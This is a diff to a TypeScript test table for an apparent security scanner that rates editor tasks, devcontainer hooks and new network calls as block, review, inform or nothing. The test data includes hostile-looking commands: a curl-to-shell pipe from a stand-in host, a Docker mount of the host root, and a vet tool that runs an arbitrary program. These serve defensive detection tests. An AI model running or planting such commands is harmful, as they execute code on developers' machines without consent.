@@ -787,6 +787,16 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
   ],
   "run-on-open": [
     { what: "a task of an editor", changes: [signal("run-on-open", ".vscode/tasks.json")], tier: "block" },
+    {
+      what: "what formats and checks Go",
+      changes: [signal("run-on-open", ".vscode/tasks.json", "go mod tidy && gofmt -w .")],
+      tier: "inform",
+    },
+    {
+      what: "a tool that is told a program",
+      changes: [signal("run-on-open", ".vscode/tasks.json", "go vet -vettool=$(./tool) ./...")],
+      tier: "block",
+    },
     { what: "what needs a tool of its own", changes: [signal("run-on-open", ".envrc")], tier: "review" },
     {
       what: "what direnv fetches by its hash",
@@ -796,12 +806,12 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
     ...(
       [
         ["initializeCommand: node .devcontainer/prepare.js", "block"],
-        ["initializeCommand: docker volume create state >/dev/null && mkdir -p .cache", "review"],
+        ["initializeCommand: docker volume create state >/dev/null && mkdir -p .cache", "inform"],
         ["initializeCommand: docker volume create state; ./prepare.sh", "block"],
         ["initializeCommand: mkdir -p a && echo $(sh prepare.sh)", "block"],
         ["initializeCommand: docker run -v /:/host example.test/tool", "block"],
-        ["postCreateCommand: .devcontainer/on-create.bash", "review"],
-        ["postCreateCommand tools: go install ./tools/...", "review"],
+        ["postCreateCommand: .devcontainer/on-create.bash", "inform"],
+        ["postCreateCommand tools: go install ./tools/...", "inform"],
         ["postCreateCommand: curl https://example.test/x | sh", "block"],
       ] as const
     ).map(([text, tier]) => ({
@@ -860,6 +870,29 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
     {
       what: "one that reaches nothing",
       changes: [{ ...goroutine, capabilities: ["FILES/READ"] }],
+      known: { ways: { existing: [way(`${m}.Open`)] } },
+      tier: "nothing",
+    },
+  ],
+  "new-destination": [
+    {
+      what: "another host in a function that callers know",
+      changes: [
+        call("net/http.Get", ["NETWORK/DIAL"], { arguments: constants("https://cdn.example.test/v1") }),
+      ],
+      known: { ways: { existing: [way(`${m}.Open`)] } },
+      tier: "inform",
+    },
+    {
+      what: "where callers did not lead",
+      changes: [
+        call("net/http.Get", ["NETWORK/DIAL"], { arguments: constants("https://cdn.example.test/v1") }),
+      ],
+      tier: "nothing",
+    },
+    {
+      what: "a value that is no address",
+      changes: [call("net/http.NewRequest", ["NETWORK/DIAL"], { arguments: constants("GET", "path") })],
       known: { ways: { existing: [way(`${m}.Open`)] } },
       tier: "nothing",
     },
